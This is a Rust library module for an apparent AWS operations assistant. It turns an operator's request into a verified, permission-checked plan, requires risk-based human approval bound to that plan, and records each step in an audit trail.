//! From the operator's words to an executed change, as a library the CLI and the desktop
//! app share: resolve the resources locally ([`Assistant::resolve`]), plan and verify
//! ([`Assistant::propose`]), judge the operator's answer ([`Proposal::accept`], one rule),
//! execute ([`Assistant::execute`], which takes only that proposal's [`Approval`]) and
//! refresh the touched resources; every step is in the audit trail. The front end owns only the conversation:
//! showing candidates and plans, and asking.

use std::collections::{BTreeMap, BTreeSet};
use std::path::Path;
use std::sync::Arc;
use std::time::Duration;

use aws_credential_types::Credentials;
use cloudops_core::{
    AccountConfig, ClientConfig, EnrichedRequest, Estate, HashEmbedder, PlanResponse, Resource,
    RiskLevel, UserContext,
};
use cloudops_playbooks::{Library, Planner, Verified, verify_plan};
use serde::{Deserialize, Serialize};

use cloudops_sync::permissions::{Access, IdentityPolicies, identity_policies};
use cloudops_sync::{DEFAULT_ACCOUNT, RefreshReport, SyncOptions, refresh, stored_credentials};

use crate::audit::{ApprovalMethod, AuditEvent, AuditLog, Outcome, new_execution_id, plan_hash};
use crate::context::{self, Resolution, TagPolicy, needed_attributes};
use crate::error::{Error, Result};
use crate::execute::{AccountCredentials, AwsCli, Redactor, account_credentials};
use crate::freshness::{FactsSource, Freshness, REREAD_TIMEOUT, reread};
use crate::pending::{PendingExecution, PendingParts, PendingState, PendingStore};
use crate::planning::{Planning, ServerPlanner};
use crate::workflow::{ExecutionEvent, ExecutionRecord, ExecutionStore, Workflow, WorkflowOptions};

/// How the operator must approve a plan.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[cfg_attr(feature = "ts", derive(ts_rs::TS))]
#[serde(tag = "kind", rename_all = "snake_case")]
pub enum ApprovalNeed {
    /// Answer yes (y/N).
    Confirm,
    /// Type the name of the resource (each, when there are several): high risk or
    /// destructive plans.
    TypeName {
        /// The names to type.
        names: Vec<String>,
    },
    /// Type the number of targets: a plan acting on more than `[ask] fleet_confirm_over`
    /// resources, whose names nobody would type.
    TypeCount {
        /// The number to type.
        count: usize,
    },
}

/// Whether the credentials that would run a plan may do one of its actions on one target.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "ts", derive(ts_rs::TS))]
pub struct PermissionCheck {
    /// The IAM action, e.g. `rds:StopDBInstance` (from the client's own playbook).
    pub action: String,
    /// The target's ARN.
    pub resource: String,
    /// Allowed (by which policy), denied (why) or unknown (why).
    pub access: Access,
}

/// The client's judgement of a plan.
#[derive(Debug, Clone, PartialEq, Serialize)]
#[cfg_attr(feature = "ts", derive(ts_rs::TS))]
#[serde(tag = "verdict", rename_all = "snake_case")]
pub enum Verdict {
    /// Every step is what the named playbook produces for the identified resources.
    Verified {
        /// The assessed risk (the higher of the server's and the client's own).
        risk: cloudops_core::RiskAssessment,
        /// Whether the playbook deletes or irreversibly changes something.
        destructive: bool,
        /// How the operator must approve.
        approval: ApprovalNeed,
    },
    /// The planner made no executable plan (nothing matched, a precondition failed); its
    /// explanation says why.
    NotExecutable,
    /// The plan failed verification: nothing may run.
    Refused {
        /// Why, one reason each.
        reasons: Vec<String>,
    },
}

/// A plan for the operator to approve or reject.
#[derive(Debug, Clone, Serialize)]
#[cfg_attr(feature = "ts", derive(ts_rs::TS))]
pub struct Proposal {
    /// The execution id, shared by the audit trail and the execution record.
    pub execution_id: String,
    /// The request sent to the planner.
    #[serde(skip)]
    pub request: EnrichedRequest,
    /// The local resources the request is about.
    pub resources: Vec<Resource>,
    /// The planner's answer.
    pub plan: PlanResponse,
    /// The client's verification of it.
    pub verdict: Verdict,
    /// Where the plan came from (`in-process` or the server's URL).
    pub planner: String,
    /// How fresh the facts the plan was made on are, and what the re-read found.
    pub freshness: Freshness,
    /// What the credentials that would run the plan may do, per action and target, judged
    /// from their own IAM policies (empty when AWS could not be read or nothing was planned).
    pub permissions: Vec<PermissionCheck>,
    /// The plan and request as verified (see [`Approval`]).
    #[serde(skip)]
    verified: String,
}

impl Proposal {
    /// Whether the plan may be approved and run.
    pub fn executable(&self) -> bool {
        matches!(self.verdict, Verdict::Verified { .. })
    }

    /// What the operator must do to approve it; `None` when it cannot run.
    pub fn approval_need(&self) -> Option<&ApprovalNeed> {
        match &self.verdict {
            Verdict::Verified { approval, .. } => Some(approval),
            Verdict::NotExecutable | Verdict::Refused { .. } => None,
        }
    }

    /// The operator's answer, judged by the one approval rule: a yes for low and medium
    /// risk, every resource name typed (trimmed, exact) for high risk or destructive plans,
    /// `--yes` by flags except for destructive high-risk plans, which also need `--force`.
    /// `Err` says why it does not approve, in words for the operator.
    pub fn accept(&self, input: &ApprovalInput) -> std::result::Result<Approval, String> {
        let Verdict::Verified { risk, destructive, approval } = &self.verdict else {
            return Err("the plan cannot be executed".to_owned());
        };
        let method = approval_method(approval, risk.level, *destructive, input)?;
        Ok(Approval {
            execution_id: self.execution_id.clone(),
            binding: self.verified.clone(),
            method,
        })
    }
}

/// What an execution did.
#[derive(Debug, Clone, Serialize)]
#[cfg_attr(feature = "ts", derive(ts_rs::TS))]
pub struct ExecutionReport {
    /// The execution id.
    pub execution_id: String,
    /// How it ended.
    pub outcome: Outcome,
    /// In one sentence.
    pub message: String,
    /// The re-read of the touched resources.
    pub refresh: RefreshReport,
    /// Each target's result (the plan's skipped targets included).
    pub targets: Vec<crate::TargetReport>,
}

/// The answer to a prompt the client does not send to the planner (a question, a negated or
/// hypothetical request, chit-chat, or no recognisable operation): why, and the operations
/// the library has for the resource's type.
pub(crate) fn not_planned(
    classification: &cloudops_core::Classification,
    library: &Library,
    kind: Option<&str>,
) -> PlanResponse {
    let mut explain_plan = classification.decline().unwrap_or_default();
    if matches!(
        classification.class,
        cloudops_core::IntentClass::OutOfScope | cloudops_core::IntentClass::Unclear
    ) || classification.is_preview()
    {
        let mut operations: Vec<String> = Vec::new();
        for loaded in library.playbooks() {
            let playbook = &loaded.playbook;
            let operation = playbook.operation.replace('_', " ");
            let fits = kind.is_none_or(|kind| playbook.resource_types.iter().any(|k| k == kind));
            if fits && !operations.contains(&operation) {
                operations.push(operation);
            }
        }
        if !operations.is_empty() {
            explain_plan.push_str(&format!(
                " Supported operations{}: {}.",
                kind.map(|k| format!(" for {k} resources")).unwrap_or_default(),
                operations.join(", ")
            ));
        }
    }
    PlanResponse {
        explain_plan,
        script: Default::default(),
        risk_assessment: cloudops_core::RiskAssessment {
            level: RiskLevel::Low,
            reasons: Vec::new(),
            impact: "Nothing will run".to_owned(),
        },
        approval_required: false,
        playbook: None,
        intent: None,
        intent_class: Some(classification.class),
        rollback: Default::default(),
        verification: Default::default(),
        required_permissions: Vec::new(),
        alternatives: Vec::new(),
        executable: false,
        skipped: Vec::new(),
    }
}

/// Why `prompt` will not be planned when it carries a command line of its own (shell syntax,
/// or an `aws <service> <operation>` invocation): CloudOps runs only the commands its
/// playbooks produce, so a request that spells out commands is refused rather than planned
/// around. `None` for words.
pub(crate) fn carries_command(prompt: &str) -> Option<String> {
    /// The verbs AWS CLI operations start with (`stop-db-instance`, `put-bucket-policy`…).
    const OPERATION_VERBS: [&str; 26] = [
        "add",
        "attach",
        "copy",
        "create",
        "delete",
        "deregister",
        "describe",
        "detach",
        "disable",
        "enable",
        "get",
        "invoke",
        "list",
        "modify",
        "put",
        "reboot",
        "register",
        "remove",
        "reset",
        "restore",
        "run",
        "set",
        "start",
        "stop",
        "terminate",
        "update",
    ];
    let shell = ["`", "$(", "&&", "||", ";", "|", ">", "<", "\n"];
    let found = shell.iter().find(|token| prompt.contains(**token)).map(|t| format!("{t:?}"));
    let words: Vec<String> = prompt
        .split_whitespace()
        .map(|w| w.trim_matches(|c: char| !c.is_ascii_alphanumeric() && c != '-').to_lowercase())
        .collect();
    let invocation = words.windows(3).any(|w| {
        w[0] == "aws"
            && !w[1].is_empty()
            && w[1].chars().all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-')
            && w[2].chars().all(|c| c.is_ascii_lowercase() || c == '-')
            && w[2].split_once('-').is_some_and(|(verb, _)| OPERATION_VERBS.contains(&verb))
    }) || words.iter().any(|w| w.starts_with("--") && w.len() > 2);
    let what = match (found, invocation) {
        (Some(token), _) => format!("shell syntax ({token})"),
        (None, true) => "a command line (`aws <service> <operation>` or `--options`)".to_owned(),
        (None, false) => return None,
    };
    Some(format!(
        "The request carries {what}. CloudOps runs only the commands its playbooks produce \
         for resources it has verified, so it does not plan requests that spell out commands: \
         say what to do in words (\"Stop pg-instance-main1\"). Nothing was planned."
    ))
}

/// Whether `prompt` is a question about the estate (answered from the index by
/// [`crate::answer_question`], never planned): classified as one, and spelling out no
/// command. Needs no [`Assistant`], so a frontend can answer without loading the planner.
pub fn is_question(prompt: &str) -> bool {
    carries_command(prompt).is_none()
        && cloudops_core::classify(prompt).class == cloudops_core::IntentClass::Question
}

/// The answer when targets were found gone by the re-read: nothing is planned.
fn gone(
    classification: &cloudops_core::Classification,
    library: &Library,
    names: &[String],
) -> PlanResponse {
    let explain_plan = format!(
        "{} no longer exist{} in AWS (read just now); nothing was planned. The index no longer \
         lists {}.",
        names.join(", "),
        if names.len() == 1 { "s" } else { "" },
        if names.len() == 1 { "it" } else { "them" },
    );
    PlanResponse {
        explain_plan,
        intent_class: Some(classification.class),
        ..not_planned(classification, library, None)
    }
}

/// How a verified plan must be approved: typing the resource names when the risk is high or
/// the operation destructive, else a yes.
fn approval_need(
    verified: &Verified,
    request: &EnrichedRequest,
    plan: &PlanResponse,
    type_count_over: usize,
) -> ApprovalNeed {
    let acted_on: Vec<&cloudops_core::IdentifiedResource> =
        request.identified_resources.iter().filter(|r| !plan.leaves_out(&r.target())).collect();
    if acted_on.len() > type_count_over {
        ApprovalNeed::TypeCount { count: acted_on.len() }
    } else if verified.destructive || verified.risk.level >= RiskLevel::High {
        ApprovalNeed::TypeName {
            names: acted_on.into_iter().map(context::confirmation_name).collect(),
        }
    } else {
        ApprovalNeed::Confirm
    }
}

/// What the operator gave in answer to an [`ApprovalNeed`], passed through by a frontend as
/// it was given. Whether it approves the plan is decided here, once, by [`Proposal::accept`].
#[derive(Debug, Clone, PartialEq, Eq, Deserialize)]
#[cfg_attr(feature = "ts", derive(ts_rs::TS))]
#[serde(tag = "kind", rename_all = "snake_case")]
pub enum ApprovalInput {
    /// A window's approve button, pressed.
    Approve,
    /// The text typed at a `y/N` prompt.
    Answer {
        /// As typed.
        text: String,
    },
    /// The resource names typed, in the order they were asked for.
    Names {
        /// As typed.
        names: Vec<String>,
    },
    /// Approval by command-line flags instead of a conversation: `--yes`, and `--force` for
    /// a destructive high-risk plan.
    Flags {
        /// `--yes`.
        yes: bool,
        /// `--force`.
        force: bool,
    },
}

/// An operator's approval of one verified proposal. Only this crate makes one
/// ([`Proposal::accept`]); it is bound to the proposal's execution id, plan and request, so
/// [`Assistant::execute`] refuses it for any other proposal, or for this one changed after it
/// was approved.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Approval {
    execution_id: String,
    binding: String,
    method: ApprovalMethod,
}

impl Approval {
    /// How it was given, as the audit trail records it.
    pub fn method(&self) -> ApprovalMethod {
        self.method
    }
}

/// What binds an approval: the plan's hash and the request it was verified for.
fn binding(plan: &PlanResponse, request: &EnrichedRequest) -> String {
    let mut hasher = blake3::Hasher::new();
    hasher.update(plan_hash(plan).as_bytes());
    // Serializing plain structs cannot fail; the empty fallback still binds the plan.
    hasher.update(&serde_json::to_vec(request).unwrap_or_default());
    hasher.finalize().to_hex().to_string()
}

/// The approval rule: whether `input` satisfies `need` for a plan of this risk. `Err` says
/// why not, in words for the operator.
fn approval_method(
    need: &ApprovalNeed,
    risk: RiskLevel,
    destructive: bool,
    input: &ApprovalInput,
) -> std::result::Result<ApprovalMethod, String> {
    match (need, input) {
        (_, ApprovalInput::Flags { yes: false, .. }) => {
            Err("approval is needed: run in a terminal to answer, or pass --yes".to_owned())
        }
        (_, ApprovalInput::Flags { yes: true, force }) => {
            if destructive && risk >= RiskLevel::High {
                if *force {
                    Ok(ApprovalMethod::YesForce)
                } else {
                    Err(format!(
                        "this plan is destructive and {risk} risk: --yes is not enough; add --force, or run in a terminal and type the resource name"
                    ))
                }
            } else {
                Ok(ApprovalMethod::YesFlag)
            }
        }
        (ApprovalNeed::Confirm, ApprovalInput::Approve) => Ok(ApprovalMethod::Confirmed),
        (ApprovalNeed::Confirm, ApprovalInput::Answer { text }) => {
            match text.trim().to_ascii_lowercase().as_str() {
                "y" | "yes" => Ok(ApprovalMethod::Confirmed),
                _ => Err("the operator declined".to_owned()),
            }
        }
        (ApprovalNeed::TypeName { names }, input) => {
            let typed_each = matches!(input, ApprovalInput::Names { names: typed }
                if names.len() == typed.len()
                    && names.iter().zip(typed).all(|(name, typed)| name == typed.trim()));
            if typed_each {
                Ok(ApprovalMethod::TypedName)
            } else {
                Err(format!(
                    "what was typed does not match {}: this plan is high risk or destructive; \
                     type each name exactly to approve it",
                    names.join(", ")
                ))
            }
        }
        (ApprovalNeed::Confirm, ApprovalInput::Names { .. }) => {
            Err("this plan needs a yes, not names".to_owned())
        }
        (ApprovalNeed::TypeCount { count }, ApprovalInput::Answer { text })
            if text.trim() == count.to_string() =>
        {
            Ok(ApprovalMethod::TypedCount)
        }
        (ApprovalNeed::TypeCount { count }, _) => {
            Err(format!("this plan acts on {count} resources: type {count} to approve it"))
        }
    }
}

/// The operator's name for the audit trail: the OS user (from the environment, else the
/// account database entry of the process's user id).
pub fn operator() -> String {
    ["USER", "LOGNAME", "USERNAME"]
        .iter()
        .find_map(|name| std::env::var(name).ok().filter(|v| !v.is_empty()))
        .or_else(user_from_passwd)
        .unwrap_or_else(|| "unknown".to_owned())
}

#[cfg(unix)]
fn user_from_passwd() -> Option<String> {
    use std::os::unix::fs::MetadataExt;
    let uid = std::fs::metadata("/proc/self").ok()?.uid().to_string();
    let passwd = std::fs::read_to_string("/etc/passwd").ok()?;
    passwd.lines().find_map(|line| {
        let fields: Vec<&str> = line.split(':').collect();
        (fields.len() > 2 && fields[2] == uid).then(|| fields[0].to_owned())
    })
}

#[cfg(not(unix))]
fn user_from_passwd() -> Option<String> {
    None
}

/// How long an account's identity policies, once read, are used before they are read again.
pub const POLICIES_KEPT_FOR: Duration = Duration::from_secs(600);

/// Identity policies per account id: when read, and what was read (or why nothing was).
type PolicyCache =
    BTreeMap<String, (std::time::Instant, std::result::Result<Arc<IdentityPolicies>, String>)>;

/// The ask flow over one data directory.
pub struct Assistant {
    config: ClientConfig,
    /// What the planner may see of tags (from `config`).
    tag_policy: TagPolicy,
    /// The attribute keys some playbook of `library` reads.
    needed: BTreeSet<String>,
    estate: Arc<Estate>,
    library: Library,
    planning: Planning,
    audit: AuditLog,
    store: ExecutionStore,
    pending: PendingStore,
    /// Each account's identity policies, as last read (see [`POLICIES_KEPT_FOR`]).
    policies: tokio::sync::Mutex<PolicyCache>,
    stored_credentials: BTreeMap<String, Credentials>,
}

impl std::fmt::Debug for Assistant {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Assistant").field("planning", &self.planning).finish_non_exhaustive()
    }
}

impl Assistant {
    /// The flow for the data directory `home`: its configuration, estate, the playbook
    /// catalog plans are verified against, where plans come from, and the access keys
    /// stored in the keychain per account name.
    pub fn new(
        home: &Path,
        config: ClientConfig,
        estate: Arc<Estate>,
        library: Library,
        planning: Planning,
        stored_credentials: BTreeMap<String, Credentials>,
    ) -> Result<Self> {
        Ok(Assistant {
            audit: AuditLog::open(home)?,
            store: ExecutionStore::open(home)?,
            pending: PendingStore::open(home)?,
            policies: tokio::sync::Mutex::new(PolicyCache::new()),
            tag_policy: TagPolicy::from_config(&config.ask),
            needed: needed_attributes(&library),
            config,
            estate,
            library,
            planning,
            stored_credentials,
        })
    }

    /// The flow as `config` sets it up for `home`: the playbook catalog (`[ask]
    /// playbooks_dir`, else the built-in one), the planner (`server`, else `[ask]
    /// server_url`, else in-process) and the keys the keychain holds for the configured
    /// accounts. Returns the notes worth telling the operator (a keychain entry that cannot be
    /// read, say); the CLI and the desktop app both start here.
    pub fn open(
        home: &Path,
        config: ClientConfig,
        estate: Arc<Estate>,
        server: Option<&str>,
    ) -> Result<(Self, Vec<String>)> {
        let library = crate::operations::library(&config)?;
        let planning = match server.or(config.ask.server_url.as_deref()) {
            Some(url) => Planning::Server(Box::new(ServerPlanner::new(
                url,
                Duration::from_secs(config.ask.server_timeout_secs.max(1)),
                config.ask.server_ca_file.as_deref(),
            )?)),
            None => Planning::InProcess(Arc::new(Planner::new(
                library.clone(),
                Arc::new(HashEmbedder),
            )?)),
        };
        let (stored, notes) = stored_credentials(&config.accounts);
        let assistant = Assistant::new(home, config, estate, library, planning, stored)?;
        Ok((assistant, notes))
    }

    /// Where plans come from: `in-process` or the server's URL.
    pub fn planner(&self) -> String {
        self.planning.describe()
    }

    /// The audit trail.
    pub fn audit(&self) -> &AuditLog {
        &self.audit
    }

    /// Why `prompt` will not be planned, before anything is resolved or planned; `None`
    /// when it asks for a change ([`cloudops_core::classify`]). Out of scope and unclear
    /// prompts are told the operations the library has.
    pub fn decline(&self, prompt: &str) -> Option<String> {
        if let Some(why) = carries_command(prompt) {
            return Some(why);
        }
        let classification = cloudops_core::classify(prompt);
        (!classification.is_action())
            .then(|| not_planned(&classification, &self.library, None).explain_plan)
    }

    /// Whether `prompt` is a question about the estate (answered by [`Assistant::answer`],
    /// never planned).
    pub fn is_question(&self, prompt: &str) -> bool {
        is_question(prompt)
    }

    /// Answers a question about the estate from the index: counted, grouped, the first
    /// `limit` resources listed, with how complete and fresh it is judged from the sync
    /// `state`. Nothing is planned.
    pub fn answer(
        &self,
        question: &str,
        state: &cloudops_sync::SyncState,
        limit: usize,
    ) -> Result<crate::Answer> {
        crate::answer_question(&self.estate, state, &self.config, question, limit)
    }

    /// The library's operations on `resource`, each with what the last sync found the
    /// credentials may do ([`crate::operations_on`]).
    pub fn operations_on(&self, resource: &Resource) -> Vec<crate::OperationAccess> {
        crate::operations_on(&self.library, resource)
    }

    /// A question read as a structured query (before it is answered).
    pub fn read_question(&self, question: &str) -> Result<cloudops_core::QuestionQuery> {
        Ok(self.estate.read_question(question)?)
    }

    /// Runs the saved check `name` ([`crate::check`]; `days` for `stopped-instances`).
    pub fn run_check(
        &self,
        name: &str,
        days: Option<u32>,
        state: &cloudops_sync::SyncState,
        limit: usize,
    ) -> Result<(crate::Check, crate::Answer)> {
        let check = crate::check(&self.config, name, days)?;
        let request = cloudops_core::QueryRequest { limit, ..check.request.clone() };
        let mut answer = self.answer_query(&request, state)?;
        answer.notes.push(check.title.clone());
        Ok((check, answer))
    }

    /// Answers a structured query from the index ([`crate::answer_query`]).
    pub fn answer_query(
        &self,
        request: &cloudops_core::QueryRequest,
        state: &cloudops_sync::SyncState,
    ) -> Result<crate::Answer> {
        crate::answer_query(&self.estate, state, &self.config.accounts, request)
    }

    /// A lookup in the local index (what `cloudops find` and agents' `find_resources` do).
    pub fn lookup(
        &self,
        request: &cloudops_core::LookupRequest,
    ) -> Result<cloudops_core::LookupResponse> {
        Ok(self.estate.lookup(request)?)
    }

    /// The whole set of resources `prompt` means when its mention is plural or quantified
    /// ([`crate::resolve_fleet`]); `None` for a mention of one resource.
    pub fn resolve_fleet(
        &self,
        prompt: &str,
        state: &cloudops_sync::SyncState,
    ) -> Result<Option<crate::Fleet>> {
        crate::resolve_fleet(&self.estate, state, &self.config, prompt)
    }

    /// The resource(s) `prompt` refers to.
    pub fn resolve(&self, prompt: &str) -> Result<Resolution> {
        context::resolve(&self.estate, prompt)
    }

    /// Builds the request for `prompt` about `resources`, plans it, verifies the plan and
    /// records both in the audit trail.
    ///
    /// For a change, the targets are first read again from AWS and the plan is made on what
    /// was read ([`Proposal::freshness`] says what changed, and which targets are gone:
    /// nothing is planned for those); when AWS cannot be read the plan is made on the index,
    /// marked so.
    pub async fn propose(&self, prompt: &str, resources: Vec<Resource>) -> Result<Proposal> {
        // The client's own reading of the prompt first: anything but an action never
        // reaches AWS or the planner.
        let classification = cloudops_core::classify(prompt);
        let smuggled = carries_command(prompt);
        let (resources, freshness) = if classification.is_action() && smuggled.is_none() {
            let options = self.sync_options();
            reread(&self.estate, resources, &self.config.accounts, &options).await
        } else {
            let freshness = Freshness::from_index(&resources, None);
            (resources, freshness)
        };
        let user_context = UserContext {
            user_id: None,
            default_region: std::env::var("AWS_REGION")
                .or_else(|_| std::env::var("AWS_DEFAULT_REGION"))
                .ok()
                .filter(|r| !r.is_empty()),
            aws_accounts: {
                let ids: std::collections::BTreeSet<String> =
                    resources.iter().map(|r| r.account_id.clone()).collect();
                ids.into_iter().collect()
            },
        };
        let request = context::build_request(
            prompt,
            &resources,
            &self.tag_policy,
            &self.needed,
            user_context,
        );
        let execution_id = new_execution_id();
        let (plan, planner) = if let Some(why) = smuggled {
            let plan = PlanResponse {
                explain_plan: why,
                ..not_planned(&classification, &self.library, None)
            };
            (plan, "client".to_owned())
        } else if !freshness.gone.is_empty() && resources.is_empty() {
            // Every target is gone: nothing to plan. (When only some are, the rest is
            // planned and the proposal's freshness names the gone ones.)
            (gone(&classification, &self.library, &freshness.gone), "client".to_owned())
        } else if classification.is_action() {
            (self.planning.plan(&request).await?, self.planning.describe())
        } else {
            let kind = resources.first().map(|r| r.resource_type.as_str().to_owned());
            (not_planned(&classification, &self.library, kind.as_deref()), "client".to_owned())
        };
        let (mut verdict, actions) = self.judge(&request, &plan);
        // What the credentials may do, checked before anyone is asked: a denied action
        // refuses the plan now, naming it; unknown stays unknown.
        let permissions = if matches!(verdict, Verdict::Verified { .. })
            && freshness.source == FactsSource::Live
        {
            self.check_permissions(&request, &plan, &resources, &actions).await
        } else {
            Vec::new()
        };
        let denied: Vec<String> = permissions
            .iter()
            .filter_map(|check| match &check.access {
                Access::Denied { reason } => Some(format!(
                    "the credentials may not {} on {}: {reason}",
                    check.action, check.resource
                )),
                _ => None,
            })
            .collect();
        if !denied.is_empty() {
            verdict = Verdict::Refused { reasons: denied };
        }
        self.audit.append(
            &execution_id,
            AuditEvent::Planned {
                prompt: prompt.to_owned(),
                resources: request.identified_resources.clone(),
                plan_hash: plan_hash(&plan),
                plan: plan.clone(),
                planner: planner.clone(),
            },
        )?;
        let verified = binding(&plan, &request);
        let proposal = Proposal {
            execution_id,
            request,
            resources,
            plan,
            verdict,
            planner,
            freshness,
            permissions,
            verified,
        };
        match &proposal.verdict {
            Verdict::Refused { reasons } => {
                self.refuse(&proposal, reasons.clone())?;
            }
            Verdict::NotExecutable => {
                self.refuse(
                    &proposal,
                    vec![format!(
                        "the planner made no executable plan: {}",
                        printable(&proposal.plan.explain_plan)
                    )],
                )?;
            }
            Verdict::Verified { .. } => {}
        }
        Ok(proposal)
    }

    /// Records that nothing will run, and why (refused verification, approval denied). For
    /// a plan an agent requested, this is a person's rejection of it.
    pub fn refuse(&self, proposal: &Proposal, reasons: Vec<String>) -> Result<()> {
        if let Some(mut pending) = self.pending.get(&proposal.execution_id)?
            && pending.state == PendingState::Pending
        {
            pending.state = PendingState::Rejected;
            pending.decided_by = Some(operator());
            self.pending.save(&pending)?;
        }
        let message = reasons.join("; ");
        self.audit.append(&proposal.execution_id, AuditEvent::Refused { reasons })?;
        self.audit.append(
            &proposal.execution_id,
            AuditEvent::Finished { outcome: Outcome::Refused, message },
        )?;
        Ok(())
    }

    /// This client's judgement of `plan` for `request`: verified against the catalog (with
    /// the approval it needs and the IAM actions its playbook needs), refused, or not executable.
    fn judge(&self, request: &EnrichedRequest, plan: &PlanResponse) -> (Verdict, Vec<String>) {
        if !plan.executable {
            return (Verdict::NotExecutable, Vec::new());
        }
        match verify_plan(&self.library, request, plan) {
            Ok(verified) => {
                let approval =
                    approval_need(&verified, request, plan, self.config.ask.fleet_confirm_over);
                let verdict = Verdict::Verified {
                    risk: verified.risk.clone(),
                    destructive: verified.destructive,
                    approval,
                };
                (verdict, verified.playbook.playbook.permissions.clone())
            }
            Err(refusal) => (Verdict::Refused { reasons: refusal.reasons }, Vec::new()),
        }
    }

    /// What the credentials of each target's account may do of `actions` on it, from the
    /// identity's own IAM policies (read once per account and kept for
    /// [`POLICIES_KEPT_FOR`]).
    async fn check_permissions(
        &self,
        request: &EnrichedRequest,
        plan: &PlanResponse,
        resources: &[Resource],
        actions: &[String],
    ) -> Vec<PermissionCheck> {
        let mut checks = Vec::new();
        for identified in &request.identified_resources {
            let Some(arn) = identified.arn.as_deref() else { continue };
            // Only the targets the plan acts on (not those it leaves out).
            if plan.leaves_out(&identified.target()) {
                continue;
            }
            let policies = self.identity_policies(&identified.account_id, request, resources).await;
            for action in actions {
                let access = match &policies {
                    Ok(policies) => policies.decide(action, arn),
                    Err(reason) => Access::Unknown { reason: reason.clone() },
                };
                checks.push(PermissionCheck {
                    action: action.clone(),
                    resource: arn.to_owned(),
                    access,
                });
            }
        }
        checks
    }

    /// The IAM policies of the identity that acts in `account_id`, read at most once per
    /// [`POLICIES_KEPT_FOR`]; `Err` says why they are not known.
    async fn identity_policies(
        &self,
        account_id: &str,
        request: &EnrichedRequest,
        resources: &[Resource],
    ) -> std::result::Result<Arc<IdentityPolicies>, String> {
        let mut cache = self.policies.lock().await;
        if let Some((read, policies)) = cache.get(account_id)
            && read.elapsed() < POLICIES_KEPT_FOR
        {
            return policies.clone();
        }
        let (account, region) =
            self.account_for(account_id, request, resources).map_err(|e| e.to_string())?;
        let stored = self.stored_credentials.get(&account.name).cloned();
        let options = self.sync_options();
        let read = async {
            let connection = cloudops_sync::connect(&account, &region, stored, &options.connect)
                .await
                .map_err(|e| e.to_string())?;
            identity_policies(&connection.sdk_config).await.map(Arc::new)
        };
        let policies = match tokio::time::timeout(REREAD_TIMEOUT, read).await {
            Ok(result) => result,
            Err(_) => Err(format!(
                "the identity's policies were not read within {} s",
                REREAD_TIMEOUT.as_secs()
            )),
        };
        cache.insert(account_id.to_owned(), (std::time::Instant::now(), policies.clone()));
        policies
    }

    /// Records that an agent (`client`, as it named itself) asks for `proposal` to run: a
    /// [`PendingExecution`] bound to the verified plan and request, which only a person can
    /// approve ([`Assistant::pending_proposal`], then [`Proposal::accept`] and
    /// [`Assistant::execute`]) or reject ([`Assistant::reject`]) within `ttl`. Nothing runs.
    pub fn request(
        &self,
        proposal: &Proposal,
        client: &str,
        ttl: Duration,
    ) -> Result<PendingExecution> {
        if !proposal.executable() {
            return Err(Error::NotApproved(
                "the plan was not verified, so it cannot be requested; nothing will run".to_owned(),
            ));
        }
        let pending = PendingExecution::new(
            proposal.execution_id.clone(),
            client,
            proposal.request.prompt.clone(),
            ttl,
            PendingParts {
                binding: proposal.verified.clone(),
                planner: proposal.planner.clone(),
                request: proposal.request.clone(),
                plan: proposal.plan.clone(),
                resources: proposal.resources.clone(),
                freshness: proposal.freshness.clone(),
                permissions: proposal.permissions.clone(),
            },
        );
        self.pending.save(&pending)?;
        self.audit.append(
            &pending.id,
            AuditEvent::Requested {
                client: pending.client.clone(),
                expires_at: pending.expires_at.clone(),
            },
        )?;
        Ok(pending)
    }

    /// The execution an agent requested under `id` (its state as of now).
    pub fn pending_execution(&self, id: &str) -> Result<PendingExecution> {
        let mut pending = self.pending.load(id)?;
        self.expire_if_due(&mut pending)?;
        Ok(pending)
    }

    fn expire_if_due(&self, pending: &mut PendingExecution) -> Result<()> {
        if pending.state_at(std::time::SystemTime::now()) != PendingState::Expired
            || pending.state == PendingState::Expired
        {
            return Ok(());
        }
        pending.state = PendingState::Expired;
        self.pending.save(pending)?;
        let message = format!(
            "nobody approved the request of {} before {}; nothing ran",
            pending.client, pending.expires_at
        );
        self.audit.append(&pending.id, AuditEvent::Refused { reasons: vec![message.clone()] })?;
        self.audit
            .append(&pending.id, AuditEvent::Finished { outcome: Outcome::Refused, message })?;
        Ok(())
    }

    /// The proposal of the pending execution `id`, for a person to approve: only while it
    /// is pending and unexpired, verified again against this client's catalog, and bound to
    /// exactly the plan and request the agent was shown.
    pub fn pending_proposal(&self, id: &str) -> Result<Proposal> {
        let pending = self.pending_execution(id)?;
        if pending.state != PendingState::Pending {
            return Err(Error::NotApproved(format!(
                "execution {} is {} ({}); nothing runs",
                pending.id,
                pending.state,
                pending.decided_by.as_deref().map_or_else(
                    || format!("expired at {}", pending.expires_at),
                    |by| format!("by {by}")
                )
            )));
        }
        if binding(&pending.plan, &pending.request) != pending.binding {
            return Err(Error::NotApproved(format!(
                "execution {}: the stored plan is not the one requested; nothing runs",
                pending.id
            )));
        }
        let (verdict, _) = self.judge(&pending.request, &pending.plan);
        if let Verdict::Refused { reasons } = &verdict {
            return Err(Error::NotApproved(format!(
                "execution {}: the plan no longer verifies ({}); nothing runs",
                pending.id,
                reasons.join("; ")
            )));
        }
        Ok(Proposal {
            execution_id: pending.id,
            verified: pending.binding,
            request: pending.request,
            resources: pending.resources,
            plan: pending.plan,
            verdict,
            planner: pending.planner,
            freshness: pending.freshness,
            permissions: pending.permissions,
        })
    }

    /// A person rejects the pending execution `id` (`reason` in their words): nothing runs.
    pub fn reject(&self, id: &str, reason: &str) -> Result<PendingExecution> {
        let _claim = self.pending.claim(id)?;
        let mut pending = self.pending_execution(id)?;
        if pending.state != PendingState::Pending {
            return Err(Error::NotApproved(format!(
                "execution {} is already {}",
                pending.id, pending.state
            )));
        }
        let by = operator();
        pending.state = PendingState::Rejected;
        pending.decided_by = Some(by.clone());
        self.pending.save(&pending)?;
        let reason = printable(reason);
        let message = if reason.is_empty() {
            format!("rejected by {by}; nothing ran")
        } else {
            format!("rejected by {by}: {reason}; nothing ran")
        };
        self.audit.append(&pending.id, AuditEvent::Refused { reasons: vec![message.clone()] })?;
        self.audit
            .append(&pending.id, AuditEvent::Finished { outcome: Outcome::Refused, message })?;
        Ok(pending)
    }

    /// The record of execution `id` once it runs (per step), if it has one.
